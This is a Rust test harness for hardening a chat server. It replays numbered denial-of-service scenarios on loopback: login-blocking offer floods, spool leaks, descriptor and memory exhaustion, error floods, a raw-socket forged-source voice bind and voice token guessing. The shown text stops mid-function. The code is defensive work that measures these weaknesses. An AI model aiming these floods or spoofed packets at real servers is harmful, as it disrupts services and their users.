//! The attacks, one function each, numbered as the items of the hardening
//! issue. Each is bounded in count and time, stays on loopback, and returns
//! its own figures as JSON; the runner adds the probe's and the server's.

use std::io::Write;
use std::net::{SocketAddr, UdpSocket};
use std::time::{Duration, Instant};

use anyhow::{Context, Result, bail};
use chatcore::protocol::transfer::{FileChunk, FileKind, FileOffer, MAX_CHUNK};
use chatcore::protocol::voice::{AUDIO_HEADER_LEN, VoiceJoined, VoicePacket};
use chatcore::protocol::{ClientMessage, Hello, ServerMessage, encode_client};
use chatvoice::transport::{LinkOptions, VoiceLink};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use super::{
    Login, Raw, Sampler, Target, attacker_login, attacker_stream, login, login_round, ms, rand_u64,
    round2, rss_kib, spool_files,
};

/// Every scenario by name, with the issue item it replays.
pub const SCENARIOS: [(&str, &str); 10] = [
    (
        "offer-flood",
        "1: offers that outlive their sender lock out logins",
    ),
    (
        "quota-squat",
        "2: declared-but-empty offers reserve the spool quota",
    ),
    (
        "spool-leak",
        "3: hello+offer+chunks+bye in one write leaks spool files",
    ),
    (
        "idle-uploads",
        "4: idle uploads hold open spool files (descriptors)",
    ),
    (
        "silent-sockets",
        "5: never-logged-in sockets fill the server",
    ),
    (
        "partial-frames",
        "6: partial 1 MiB frames before login cost memory",
    ),
    (
        "error-flood-slow-reader",
        "7: error-earning frames to a reader that never reads",
    ),
    ("voice-spoof", "8: voice bind from a forged source address"),
    (
        "voice-tcp-squat",
        "9: TCP voice connections that never bind",
    ),
    ("log-volume", "10: log bytes per connection churn"),
];

/// Size knobs common to all scenarios: `None` takes the scenario's default
/// (the size that reproduces the issue); tests pass tiny values.
#[derive(Debug, Clone, Copy, Default)]
pub struct Scale {
    /// Attacking connections (or offers, packets: the scenario says which).
    pub count: Option<usize>,
    /// Seconds the attack is held.
    pub seconds: Option<f64>,
}

impl Scale {
    fn count(&self, default: usize) -> usize {
        self.count.unwrap_or(default).max(1)
    }
    fn hold(&self, default: f64) -> Duration {
        Duration::from_secs_f64(self.seconds.unwrap_or(default).max(0.05))
    }
}

/// The soft open-file limit a spawned server gets for scenario `name`,
/// when it is not the machine's: `idle-uploads` starts the server with 4096
/// descriptors so that exhausting them takes ~500 members and seconds, not
/// the 2,300 members against 20,000 (the same arithmetic, scaled).
pub fn server_nofile(name: &str) -> Option<u64> {
    (name == "idle-uploads").then_some(4096)
}

/// Runs the scenario called `name`.
pub fn run(name: &str, target: &mut Target, sampler: &Sampler, scale: Scale) -> Result<Value> {
    match name {
        "offer-flood" => offer_flood(target, scale),
        "quota-squat" => quota_squat(target, scale),
        "spool-leak" => spool_leak(target, scale),
        "idle-uploads" => idle_uploads(target, sampler, scale),
        "silent-sockets" => silent_sockets(target, sampler, scale),
        "partial-frames" => partial_frames(target, scale),
        "error-flood-slow-reader" => error_flood(target, scale),
        "voice-spoof" => voice_spoof(target, scale),
        "voice-tcp-squat" => voice_tcp_squat(target, scale),
        "log-volume" => log_volume(target, scale),
        other => bail!("unknown scenario {other:?} (try --list)"),
    }
}

fn hello(name: &str) -> Vec<u8> {
    encode_client(&ClientMessage::Hello(Hello {
        version: 1,
        name: name.to_owned(),
    }))
    .to_vec()
}

fn offer(name: String, content: &[u8], declared: u64) -> ClientMessage {
    ClientMessage::FileOffer(FileOffer {
        name,
        size: declared,
        sha256: Sha256::digest(content).to_vec(),
        kind: FileKind::File,
        reference: None,
    })
}

fn chunk(transfer: u64, data: &[u8]) -> Vec<u8> {
    encode_client(&ClientMessage::FileChunk(FileChunk {
        transfer,
        offset: 0,
        data: data.to_vec(),
    }))
    .to_vec()
}

/// Logs in, offers `files` small files (names padded to `name_len`
/// bytes) in batches of 8 (the uploads a member may run at once), uploads
/// them, waits for their `file_ready`, says `bye`. Returns how many became
/// ready, or the reason the session failed.
fn offer_session(
    addr: SocketAddr,
    user: &str,
    files: usize,
    name_len: usize,
    serial: &mut u64,
) -> Result<usize> {
    let mut raw = Raw::connect_attacker(addr)?;
    let mut out = hello(user);
    let content = b"tiny";
    let deadline = Instant::now() + Duration::from_secs(20);
    let mut ready = 0;
    let mut welcomed = false;
    while ready < files {
        let batch = (files - ready).min(8);
        for _ in 0..batch {
            *serial += 1;
            let mut name = format!("{:08}-", *serial);
            while name.len() < name_len {
                name.push('x');
            }
            name.push_str(".txt");
            out.extend_from_slice(&encode_client(&offer(name, content, content.len() as u64)));
        }
        raw.write(&out)?;
        let mut ids = Vec::new();
        while ids.len() < batch {
            match raw
                .next(deadline)
                .context("before its uploads were accepted")?
            {
                Some(ServerMessage::Welcome(_)) => welcomed = true,
                Some(ServerMessage::FileUpload(u)) => ids.push(u.transfer),
                Some(ServerMessage::Error(e)) => bail!("{}", e.code),
                Some(_) => {}
                None => bail!("timed out (welcome seen: {welcomed})"),
            }
        }
        out.clear();
        for id in &ids {
            out.extend_from_slice(&chunk(*id, content));
        }
        raw.write(&out)?;
        out.clear();
        let mut done = 0;
        while done < ids.len() {
            match raw.next(deadline)? {
                Some(ServerMessage::FileReady(_)) => done += 1,
                Some(ServerMessage::Error(e)) => bail!("{}", e.code),
                Some(_) => {}
                None => bail!("timed out waiting for file_ready"),
            }
        }
        ready += done;
    }
    let _ = raw.send(&ClientMessage::Bye);
    Ok(ready)
}

/// Item 1. Attackers leave and log in again, each session offering 32
/// small completed files with long names (four attacker threads at once,
/// since every login must first read the whole backlog), until an
/// attacker's own login fails (the backlog of offers no longer fits a
/// login's output cap), the target count is reached, or time runs out;
/// then fresh logins are timed.
fn offer_flood(target: &mut Target, scale: Scale) -> Result<Value> {
    use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
    use std::sync::{Arc, Mutex};
    let goal = scale.count(20_000) as u64;
    let budget = scale.hold(40.0);
    let per_session = 32.min(goal as usize);
    let t = Instant::now();
    let offers = Arc::new(AtomicU64::new(0));
    let sessions = Arc::new(AtomicU64::new(0));
    let done = Arc::new(AtomicBool::new(false));
    let stopped_by = Arc::new(Mutex::new(None::<String>));
    let threads: Vec<_> = (0..4u64)
        .map(|k| {
            let (offers, sessions, done, stopped_by) = (
                Arc::clone(&offers),
                Arc::clone(&sessions),
                Arc::clone(&done),
                Arc::clone(&stopped_by),
            );
            let addr = target.chat;
            std::thread::spawn(move || {
                let mut serial = k << 40;
                let name = format!("flooder{k}");
                while !done.load(Ordering::Relaxed) {
                    let why = if offers.load(Ordering::Relaxed) >= goal {
                        Some("target count reached".to_owned())
                    } else if t.elapsed() > budget {
                        Some("time budget".to_owned())
                    } else {
                        sessions.fetch_add(1, Ordering::Relaxed);
                        match offer_session(addr, &name, per_session, 240, &mut serial) {
                            Ok(n) => {
                                offers.fetch_add(n as u64, Ordering::Relaxed);
                                None
                            }
                            Err(e) => Some(format!("an attacker's own login failed: {e:#}")),
                        }
                    };
                    if let Some(why) = why {
                        done.store(true, Ordering::Relaxed);
                        let mut s = stopped_by
                            .lock()
                            .unwrap_or_else(std::sync::PoisonError::into_inner);
                        s.get_or_insert(why);
                    }
                }
            })
        })
        .collect();
    for th in threads {
        let _ = th.join();
    }
    let build_s = t.elapsed().as_secs_f64();
    // What one late joiner is sent: the welcome and every offer.
    let backlog = match login(target.chat, "backlog", Duration::from_secs(10)) {
        Login::Welcome(mut raw, _) => {
            let mut n = 0u64;
            let _ = raw.until(Instant::now() + Duration::from_secs(10), |m| {
                if matches!(m, ServerMessage::FileOffer(_)) {
                    n += 1;
                }
                (n >= offers.load(Ordering::Relaxed)).then_some(())
            });
            let bytes = raw.bytes_read;
            let per_offer = bytes as f64 / n.max(1) as f64;
            json!({
                "offers_received": n,
                "bytes_received": bytes,
                "bytes_per_offer": per_offer.round(),
                "offers_that_fill_the_8_mib_output_cap": (8.0 * 1048576.0 / per_offer.max(1.0)).round(),
            })
        }
        _ => json!({ "login": "failed" }),
    };
    let cpu0 = target.pid.and_then(super::cpu_secs);
    let t1 = Instant::now();
    let logins = login_round(target.chat, 20, "late", Duration::from_secs(5));
    let cpu = match (cpu0, target.pid.and_then(super::cpu_secs)) {
        (Some(a), Some(b)) => Some(round2((b - a) / t1.elapsed().as_secs_f64())),
        _ => None,
    };
    let stopped_by = stopped_by
        .lock()
        .unwrap_or_else(std::sync::PoisonError::into_inner)
        .clone();
    Ok(json!({
        "attack": "leave/rejoin, 32 completed 4-byte offers with 250-byte names per session, 4 attackers",
        "sessions": sessions.load(Ordering::Relaxed),
        "offers_built": offers.load(Ordering::Relaxed),
        "build_seconds": round2(build_s),
        "offers_per_s": (offers.load(Ordering::Relaxed) as f64 / build_s).round(),
        "stopped_by": stopped_by,
        "late_joiner_backlog": backlog,
        "fresh_logins": logins,
        "server_cpu_share_during_logins": cpu,
    }))
}

/// Item 2. Completed offers exist; an attacker declares three 4 GiB offers
/// and sends no bytes, then a fourth. Do the completed offers survive, and
/// can another member still offer a file?
fn quota_squat(target: &mut Target, scale: Scale) -> Result<Value> {
    let hold = scale.hold(5.0);
    let mut serial = 0;
    let completed = offer_session(target.chat, "owner", 2, 10, &mut serial)?;
    let Login::Welcome(mut attacker, _) =
        attacker_login(target.chat, "squatter", Duration::from_secs(5))
    else {
        bail!("the attacker could not log in");
    };
    let four_gib = 4u64 << 30;
    let mut answers = Vec::new();
    for i in 0..4 {
        attacker.send(&offer(format!("huge{i}.bin"), b"never sent", four_gib))?;
        let a = attacker.until(Instant::now() + Duration::from_secs(5), |m| match m {
            ServerMessage::FileUpload(_) => Some("file_upload".to_owned()),
            ServerMessage::Error(e) => Some(e.code.to_string()),
            _ => None,
        })?;
        answers.push(a.unwrap_or_else(|| "no answer".into()));
    }
    std::thread::sleep(hold.min(Duration::from_secs(2)));
    // What a late joiner is offered now: the completed files, or not?
    let surviving = match login(target.chat, "latecomer", Duration::from_secs(5)) {
        Login::Welcome(mut raw, _) => {
            let mut n = 0;
            let _ = raw.until(Instant::now() + Duration::from_millis(500), |m| {
                if matches!(m, ServerMessage::FileOffer(ref o) if o.from == "owner") {
                    n += 1;
                }
                None::<()>
            });
            Some(n)
        }
        _ => None,
    };
    // Another member offers a 1 KiB file and uploads it.
    let honest = {
        let Login::Welcome(mut raw, _) = login(target.chat, "honest", Duration::from_secs(5))
        else {
            bail!("the honest member could not log in");
        };
        let content = vec![7u8; 1024];
        raw.send(&offer("report.pdf".into(), &content, 1024))?;
        let deadline = Instant::now() + Duration::from_secs(5);
        match raw.until(deadline, |m| match m {
            ServerMessage::FileUpload(u) => Some(Ok(u.transfer)),
            ServerMessage::Error(e) => Some(Err(e.code.to_string())),
            _ => None,
        })? {
            Some(Ok(id)) => {
                raw.write(&chunk(id, &content))?;
                raw.until(deadline, |m| match m {
                    ServerMessage::FileReady(_) => Some("ready".to_owned()),
                    ServerMessage::Error(e) => Some(e.code.to_string()),
                    _ => None,
                })?
                .unwrap_or_else(|| "no answer".into())
            }
            Some(Err(code)) => code,
            None => "no answer".into(),
        }
    };
    std::thread::sleep(hold.saturating_sub(Duration::from_secs(2)));
    drop(attacker);
    Ok(json!({
        "attack": "three 4 GiB offers with no bytes, then a fourth",
        "completed_offers_before": completed,
        "attacker_offer_answers": answers,
        "completed_offers_seen_by_late_joiner": surviving,
        "honest_1kib_offer": honest,
    }))
}

/// Item 3. Many connections each write `hello`, `file_offer`, the whole
/// file and `bye` in one write (the transfer id is predicted: ids count up
/// from the calibration offer). Counts spool files left, then after SIGTERM.
fn spool_leak(target: &mut Target, scale: Scale) -> Result<Value> {
    let n = scale.count(710);
    let spool = target
        .spool
        .clone()
        .context("spool-leak needs --spawn-server (or --spool-dir)")?;
    // Calibrate the next transfer id with one honest offer.
    let mut serial = 0;
    let first_id = {
        let Login::Welcome(mut raw, _) = login(target.chat, "calib", Duration::from_secs(5)) else {
            bail!("calibration login failed");
        };
        raw.send(&offer("calib.bin".into(), b"x", 1))?;
        let id = raw
            .until(Instant::now() + Duration::from_secs(5), |m| match m {
                ServerMessage::FileUpload(u) => Some(u.transfer),
                _ => None,
            })?
            .context("no file_upload for the calibration offer")?;
        raw.send(&ClientMessage::FileCancel(
            chatcore::protocol::transfer::TransferId { transfer: id },
        ))?;
        let _ = raw.send(&ClientMessage::Bye);
        id + 1
    };
    let content: Vec<u8> = (0..110_000u32).map(|i| (i * 7) as u8).collect();
    let t = Instant::now();
    let mut closed = 0;
    for (i, next_id) in (0..n).zip(first_id..) {
        serial += 1;
        let mut out = hello(&format!("leak{}", i % 1000));
        out.extend_from_slice(&encode_client(&offer(
            format!("f{serial}.bin"),
            &content,
            content.len() as u64,
        )));
        for (k, piece) in content.chunks(MAX_CHUNK as usize).enumerate() {
            out.extend_from_slice(&encode_client(&ClientMessage::FileChunk(FileChunk {
                transfer: next_id,
                offset: (k * MAX_CHUNK as usize) as u64,
                data: piece.to_vec(),
            })));
        }
        out.extend_from_slice(&encode_client(&ClientMessage::Bye));
        let mut raw = Raw::connect_attacker(target.chat)?;
        raw.write(&out)?;
        if raw.drain_to_close(Instant::now() + Duration::from_secs(5)) {
            closed += 1;
        }
    }
    let took = t.elapsed();
    std::thread::sleep(Duration::from_secs(1));
    let (files_running, bytes_running) = spool_files(&spool);
    Ok(json!({
        "attack": "hello + 110 kB offer + all chunks + bye in one write, per connection",
        "connections": n,
        "closed_by_server": closed,
        "seconds": round2(took.as_secs_f64()),
        "spool_files_while_running": files_running,
        "spool_bytes_while_running": bytes_running,
    }))
}

/// What a scenario measures after the server was stopped with SIGTERM (the
/// runner stops it once the probe and the sampler are done): for
/// `spool-leak`, the spool files the shutdown left on disk.
pub fn after_stop(name: &str, target: &Target) -> Option<Value> {
    match (name, &target.spool) {
        ("spool-leak", Some(spool)) => {
            let (files, bytes) = spool_files(spool);
            Some(json!({ "spool_files_after_sigterm": files, "spool_bytes_after_sigterm": bytes }))
        }
        _ => None,
    }
}

/// Item 4. Many members each open 8 uploads, send one chunk, then idle.
/// Counts the server's descriptors, then checks that an honest upload and a
/// fresh login still work.
fn idle_uploads(target: &mut Target, sampler: &Sampler, scale: Scale) -> Result<Value> {
    let members = scale.count(500);
    let hold = scale.hold(3.0);
    let t = Instant::now();
    let mut held = Vec::new();
    let mut uploads_open = 0u64;
    let mut refusals: std::collections::BTreeMap<String, u64> = Default::default();
    let piece = vec![1u8; 1024];
    for i in 0..members {
        if t.elapsed() > Duration::from_secs(40) {
            break;
        }
        let Login::Welcome(mut raw, _) =
            attacker_login(target.chat, &format!("idle{i}"), Duration::from_secs(5))
        else {
            *refusals.entry("login failed".into()).or_default() += 1;
            continue;
        };
        let mut out = Vec::new();
        for k in 0..8 {
            out.extend_from_slice(&encode_client(&offer(
                format!("big{k}.bin"),
                b"whatever",
                1 << 20,
            )));
        }
        raw.write(&out)?;
        let mut ids = Vec::new();
        let deadline = Instant::now() + Duration::from_secs(5);
        let mut answered = 0;
        while answered < 8 {
            match raw.next(deadline) {
                Ok(Some(ServerMessage::FileUpload(u))) => {
                    ids.push(u.transfer);
                    answered += 1;
                }
                Ok(Some(ServerMessage::Error(e))) => {
                    *refusals.entry(e.code.to_string()).or_default() += 1;
                    answered += 1;
                }
                Ok(Some(_)) => {}
                Ok(None) | Err(_) => break,
            }
        }
        let mut out = Vec::new();
        for id in &ids {
            out.extend_from_slice(&chunk(*id, &piece));
        }
        raw.write(&out)?;
        uploads_open += ids.len() as u64;
        held.push(raw);
    }
    let setup = t.elapsed();
    std::thread::sleep(hold);
    let (_, fds_held) = sampler.now();
    // An honest member uploads a small file now.
    let honest = match login(target.chat, "honest", Duration::from_secs(5)) {
        Login::Welcome(mut raw, _) => {
            let content = vec![9u8; 2048];
            raw.send(&offer("notes.txt".into(), &content, 2048))?;
            let deadline = Instant::now() + Duration::from_secs(5);
            let first = raw.until(deadline, |m| match m {
                ServerMessage::FileUpload(u) => Some(Ok(u.transfer)),
                ServerMessage::Error(e) => Some(Err(e.code.to_string())),
                _ => None,
            });
            match first {
                Ok(Some(Ok(id))) => {
                    raw.write(&chunk(id, &content))?;
                    raw.until(deadline, |m| match m {
                        ServerMessage::FileReady(_) => Some("ready".to_owned()),
                        ServerMessage::Error(e) => Some(e.code.to_string()),
                        _ => None,
                    })
                    .ok()
                    .flatten()
                    .unwrap_or_else(|| "no answer".into())
                }
                Ok(Some(Err(code))) => code,
                _ => "no answer".into(),
            }
        }
        Login::Refused(c) => format!("login refused: {c}"),
        Login::Failed(e) => format!("login failed: {e}"),
        Login::Timeout => "login timed out".into(),
    };
    let logins = login_round(target.chat, 10, "fresh", Duration::from_secs(3));
    let holding = held.len();
    drop(held);
    Ok(json!({
        "attack": "members each holding 8 idle uploads (1 KiB sent of 1 MiB)",
        "members_tried": members,
        "members_holding": holding,
        "setup_seconds": round2(setup.as_secs_f64()),
        "uploads_open": uploads_open,
        "attacker_refusals": refusals,
        "server_fds_while_held": fds_held,
        "honest_upload": honest,
        "fresh_logins": logins,
    }))
}

/// Item 5. Thousands of sockets that connect and never say `hello`; real
/// logins are tried meanwhile, and the attack is held past the handshake
/// timeout (10 s by default) so the mass timeout's loop turn is seen too.
fn silent_sockets(target: &mut Target, sampler: &Sampler, scale: Scale) -> Result<Value> {
    let n = scale.count(10_050);
    let hold = scale.hold(12.0);
    let t = Instant::now();
    let mut socks = Vec::with_capacity(n);
    let mut connect_errors = 0u64;
    for _ in 0..n {
        match attacker_stream(target.chat, Duration::from_millis(500)) {
            Ok(s) => socks.push(s),
            Err(_) => connect_errors += 1,
        }
        if connect_errors > 50 {
            break;
        }
    }
    let opened = t.elapsed();
    std::thread::sleep(Duration::from_millis(300));
    let (_, fds) = sampler.now();
    let logins = login_round(target.chat, 50, "real", Duration::from_secs(3));
    let rest = hold.saturating_sub(t.elapsed());
    std::thread::sleep(rest);
    // How many of the silent sockets the server has ended by now (an error
    // frame such as a handshake timeout, or a close).
    let mut closed = 0;
    for s in &socks {
        let _ = s.set_nonblocking(true);
        let mut b = [0u8; 512];
        loop {
            match std::io::Read::read(&mut &*s, &mut b) {
                Ok(0) => {
                    closed += 1;
                    break;
                }
                Ok(_) => {}
                Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => break,
                Err(_) => {
                    closed += 1;
                    break;
                }
            }
        }
    }
    drop(socks);
    Ok(json!({
        "attack": "sockets that connect and never send hello",
        "sockets_opened": n as u64 - connect_errors.min(n as u64),
        "connect_errors": connect_errors,
        "open_seconds": round2(opened.as_secs_f64()),
        "server_fds_with_sockets_open": fds,
        "real_logins_meanwhile": logins,
        "held_seconds": round2(t.elapsed().as_secs_f64()),
        "closed_by_server_by_then": closed,
    }))
}

/// Item 6. Connections announce a 1 MiB frame and send all of it but the
/// last byte, never logging in. Server memory during, and after they left.
fn partial_frames(target: &mut Target, scale: Scale) -> Result<Value> {
    let n = scale.count(500);
    let hold = scale.hold(3.0);
    let frame = 1u32 << 20;
    let mut body = frame.to_be_bytes().to_vec();
    body.extend(std::iter::repeat_n(0x81u8, frame as usize - 1));
    let rss0 = target.pid.and_then(rss_kib);
    let t = Instant::now();
    let mut socks = Vec::new();
    for _ in 0..n {
        let Ok(mut s) = attacker_stream(target.chat, Duration::from_millis(500)) else {
            continue;
        };
        let _ = s.set_write_timeout(Some(Duration::from_secs(2)));
        if s.write_all(&body).is_ok() {
            socks.push(s);
        }
    }
    let sent = t.elapsed();
    std::thread::sleep(hold);
    let rss_held = target.pid.and_then(rss_kib);
    let held = socks.len();
    drop(socks);
    std::thread::sleep(Duration::from_secs(2));
    let rss_after = target.pid.and_then(rss_kib);
    let per_conn = match (rss0, rss_held) {
        (Some(a), Some(b)) if held > 0 => Some(round2((b.saturating_sub(a)) as f64 / held as f64)),
        _ => None,
    };
    Ok(json!({
        "attack": "1 MiB frame header + 1 MiB - 1 bytes, never completed, before hello",
        "connections": n,
        "held": held,
        "send_seconds": round2(sent.as_secs_f64()),
        "rss_before_kib": rss0,
        "rss_while_held_kib": rss_held,
        "rss_per_connection_kib": per_conn,
        "rss_2s_after_they_left_kib": rss_after,
    }))
}

/// Item 7. A member sends frames that each earn an error reply (file chunks
/// for a transfer that is not theirs: never rate-limited) and never reads.
/// Server RSS while it goes on, and when the server cuts it.
fn error_flood(target: &mut Target, scale: Scale) -> Result<Value> {
    let budget = scale.hold(30.0);
    let Login::Welcome(mut raw, _) = attacker_login(target.chat, "noisy", Duration::from_secs(5))
    else {
        bail!("the attacker could not log in");
    };
    // Shrink our receive buffer so the server's queue fills sooner.
    let sock = socket2::SockRef::from(&raw.stream);
    let _ = sock.set_recv_buffer_size(4096);
    let one = chunk(987_654_321, &[]);
    let batch: Vec<u8> = one.repeat(1000);
    let rss0 = target.pid.and_then(rss_kib);
    let _ = raw.stream.set_write_timeout(Some(Duration::from_secs(2)));
    let t = Instant::now();
    let mut frames = 0u64;
    let mut peak = 0u64;
    let mut cut_after = None;
    while t.elapsed() < budget {
        match raw.stream.write_all(&batch) {
            Ok(()) => frames += 1000,
            Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => {}
            Err(e) if e.kind() == std::io::ErrorKind::TimedOut => {}
            Err(_) => {
                cut_after = Some(t.elapsed());
                break;
            }
        }
        if frames.is_multiple_of(20_000)
            && let Some(r) = target.pid.and_then(rss_kib)
        {
            peak = peak.max(r);
        }
    }
    if let Some(r) = target.pid.and_then(rss_kib) {
        peak = peak.max(r);
    }
    drop(raw);
    std::thread::sleep(Duration::from_secs(1));
    Ok(json!({
        "attack": "file_chunk for an unknown transfer (error reply each), never reading",
        "frames_sent": frames,
        "frame_bytes": one.len(),
        "cut": cut_after.is_some(),
        "cut_after_s": cut_after.map(|d| round2(d.as_secs_f64())),
        "rss_before_kib": rss0,
        "rss_peak_kib": peak,
        "rss_growth_kib": rss0.map(|r| peak.saturating_sub(r)),
        "rss_1s_after_kib": target.pid.and_then(rss_kib),
    }))
}

fn voice_member(target: &Target, name: &str) -> Result<(chatcore::Client, VoiceJoined)> {
    let client = chatcore::Client::connect(target.chat, name)?;
    client.send(&ClientMessage::VoiceJoin)?;
    let deadline = Instant::now() + Duration::from_secs(5);
    while Instant::now() < deadline {
        if let Some(chatcore::Event::Message(ServerMessage::VoiceJoined(j))) =
            client.recv_timeout(Duration::from_millis(200))?
        {
            return Ok((client, j));
        }
    }
    bail!("no voice_joined for {name}")
}

fn token(j: &VoiceJoined) -> Result<[u8; 16]> {
    j.token.as_slice().try_into().context("token length")
}

/// Binds an honest call member the way the real client does (chatvoice's
/// link: UDP, else TCP with `force_tcp`), so the scenarios keep working
/// when the bind handshake changes.
fn honest_link(voice: SocketAddr, j: &VoiceJoined, force_tcp: bool) -> Result<VoiceLink> {
    let opts = LinkOptions {
        force_tcp,
        ..LinkOptions::default()
    };
    VoiceLink::connect(voice, j.session, &j.token, j.keepalive_ms, &opts)
        .with_context(|| format!("binding session {}", j.session))
}

/// Sends one voice packet the way the attacker can (forged or bound).
type SendFn = Box<dyn Fn(&[u8]) -> Result<()>>;

/// One UDP datagram from a forged source, through a raw socket (root):
/// IPv4 header with `src`, UDP header with checksum 0 (allowed on IPv4).
fn spoofed_send(
    raw: &socket2::Socket,
    src: SocketAddr,
    dst: SocketAddr,
    payload: &[u8],
) -> Result<()> {
    let (SocketAddr::V4(s), SocketAddr::V4(d)) = (src, dst) else {
        bail!("IPv4 only");
    };
    let udp_len = 8 + payload.len();
    let total = 20 + udp_len;
    let mut p = Vec::with_capacity(total);
    p.extend_from_slice(&[0x45, 0]);
    p.extend_from_slice(&(total as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0, 0x40, 0, 64, 17, 0, 0]); // id, DF, ttl, UDP, checksum
    p.extend_from_slice(&s.ip().octets());
    p.extend_from_slice(&d.ip().octets());
    let mut sum: u32 = p
        .chunks(2)
        .map(|w| u32::from(u16::from_be_bytes([w[0], w[1]])))
        .sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    let ck = !(sum as u16);
    p[10..12].copy_from_slice(&ck.to_be_bytes());
    p.extend_from_slice(&s.port().to_be_bytes());
    p.extend_from_slice(&d.port().to_be_bytes());
    p.extend_from_slice(&(udp_len as u16).to_be_bytes());
    p.extend_from_slice(&[0, 0]);
    p.extend_from_slice(payload);
    raw.send_to(&p, &dst.into())?;
    Ok(())
}

/// Item 8. The attacker joins the call and binds its session to the
/// victim's address (a forged source: a raw socket as root, else a socket
/// bound to the victim's 127.0.0.2 address standing for the forgery); a few
/// honest members talk; the victim, who never asked, counts what it gets.
/// Then token guesses from one source at full speed: how many per second
/// the server takes, and whether a right token still binds afterwards.
fn voice_spoof(target: &mut Target, scale: Scale) -> Result<Value> {
    let voice = target
        .voice
        .context("voice-spoof needs the voice port (--voice or --spawn-server)")?;
    let hold = scale.hold(15.0);
    let speakers_n = scale.count(8).min(30);
    let victim = UdpSocket::bind("127.0.0.2:0").context("binding the victim on 127.0.0.2")?;
    victim.set_read_timeout(Some(Duration::from_millis(100)))?;
    let victim_addr = victim.local_addr()?;
    let (_attacker, aj) = voice_member(target, "spoofer")?;
    let bind = VoicePacket::Bind {
        session: aj.session,
        token: token(&aj)?,
        // What an attacker without the victim's challenge can send.
        cookie: None,
    }
    .to_vec();
    let raw = socket2::Socket::new(
        socket2::Domain::IPV4,
        socket2::Type::from(3),             // SOCK_RAW
        Some(socket2::Protocol::from(255)), // IPPROTO_RAW: we write the IP header
    );
    let (method, spoof): (&str, SendFn) = match raw {
        Ok(raw) => (
            "raw socket, forged IPv4 source",
            Box::new(move |b: &[u8]| spoofed_send(&raw, victim_addr, voice, b)),
        ),
        Err(_) => {
            let v = victim.try_clone()?;
            (
                "socket bound to the victim's address (not root)",
                Box::new(move |b: &[u8]| {
                    v.send_to(b, voice)?;
                    Ok(())
                }),
            )
        }
    };
    let mut spoofed_bytes = 0u64;
    spoof(&bind)?;
    spoofed_bytes += bind.len() as u64;
    // Did the server answer the forged bind (to the victim)?
    let mut buf = [0u8; 2048];
    let bound_answer = matches!(
        victim
            .recv(&mut buf)
            .map(|n| VoicePacket::parse(&buf[..n]).map(|p| matches!(p, VoicePacket::Bound { .. }))),
        Ok(Ok(true))
    );
    let mut speakers = Vec::new();
    for i in 0..speakers_n {
        let (c, j) = voice_member(target, &format!("talker{i}"))?;
        let link = honest_link(voice, &j, false)?;
        speakers.push((c, link.sender(), link));
    }
    let payload = vec![0x5a; 400];
    let t = Instant::now();
    let mut victim_bytes = 0u64;
    let mut victim_packets = 0u64;
    let mut n = 0u32;
    let _ = victim.set_nonblocking(true);
    while t.elapsed() < hold {
        for (_, sender, _) in &speakers {
            let _ = sender.send_audio(n as u16, n.wrapping_mul(960), &payload);
        }
        if n.is_multiple_of(50) {
            // The attacker's keepalive, forged too.
            let probe = VoicePacket::Probe {
                session: aj.session,
                nonce: n,
            }
            .to_vec();
            spoof(&probe)?;
            spoofed_bytes += probe.len() as u64;
        }
        n += 1;
        let next = t + Duration::from_millis(20) * n;
        while Instant::now() < next {
            while let Ok(k) = victim.recv(&mut buf) {
                victim_bytes += k as u64;
                victim_packets += 1;
            }
            std::thread::sleep(Duration::from_millis(2));
        }
    }
    let spoof_secs = t.elapsed().as_secs_f64();
    let spoken = u64::from(n) * speakers.len() as u64 * (AUDIO_HEADER_LEN + payload.len()) as u64;
    drop(speakers);
    // Token guesses from one source, as fast as we can send them.
    let (_guesser, gj) = voice_member(target, "guesser")?;
    let g = UdpSocket::bind("127.0.0.1:0")?;
    g.connect(voice)?;
    let guess_for = Duration::from_secs_f64(hold.as_secs_f64().min(2.0));
    let cpu0 = target.pid.and_then(super::cpu_secs);
    let t = Instant::now();
    let mut guesses = 0u64;
    while t.elapsed() < guess_for {
        for _ in 0..256 {
            let mut tok = [0u8; 16];
            tok[..8].copy_from_slice(&rand_u64().to_le_bytes());
            tok[8..].copy_from_slice(&rand_u64().to_le_bytes());
            let p = VoicePacket::Bind {
                session: gj.session,
                token: tok,
                cookie: None,
            }
            .to_vec();
            if g.send(&p).is_ok() {
                guesses += 1;
            }
        }
    }
    let gsecs = t.elapsed().as_secs_f64();
    let cpu = match (cpu0, target.pid.and_then(super::cpu_secs)) {
        (Some(a), Some(b)) => Some(round2((b - a) / gsecs)),
        _ => None,
    };
    // Does the right token still bind from the guessing address (its IP;
    // the real client's link, so a changed bind handshake is followed)?
    let still_binds = match honest_link(voice, &gj, false) {
        Ok(link) => {
            link.close();
            true
        }
        Err(_) => false,
    };
    drop(g);
    Ok(json!({
        "attack": "bind with a forged source address, then the call talks",
        "method": method,
        "forged_bind_answered_bound_to_victim": bound_answer,
        "speakers": speakers_n,
        "seconds": round2(spoof_secs),
        "spoofed_bytes_sent": spoofed_bytes,
        "audio_bytes_spoken": spoken,
        "victim_bytes_received": victim_bytes,
        "victim_packets_received": victim_packets,
        "amplification": round2(victim_bytes as f64 / spoofed_bytes.max(1) as f64),
        "token_guesses_sent": guesses,
        "token_guesses_per_s": (guesses as f64 / gsecs).round(),
        "server_cpu_share_during_guesses": cpu,
        "right_token_binds_from_that_ip_after_guessing": still_binds,
    }))
}

/// Item 9. TCP connections to the voice port that never bind; then a real
/// call member tries to bind over TCP.
fn voice_tcp_squat(target: &mut Target, scale: Scale) -> Result<Value> {
    let voice = target
        .voice
        .context("voice-tcp-squat needs the voice port")?;
    let n = scale.count(70);
    let hold = scale.hold(2.0);
    let mut socks = Vec::new();
    for _ in 0..n {
        if let Ok(s) = attacker_stream(voice, Duration::from_millis(500)) {
            socks.push(s);
        }
    }
    std::thread::sleep(hold);
    let mut alive = 0;
    for s in &socks {
        let _ = s.set_nonblocking(true);
        let mut b = [0u8; 8];
        if let Err(e) = std::io::Read::read(&mut &*s, &mut b)
            && e.kind() == std::io::ErrorKind::WouldBlock
        {
            alive += 1;
        }
    }
    let (_member, j) = voice_member(target, "tcpvoice")?;
    let t = Instant::now();
    let outcome = match honest_link(voice, &j, true) {
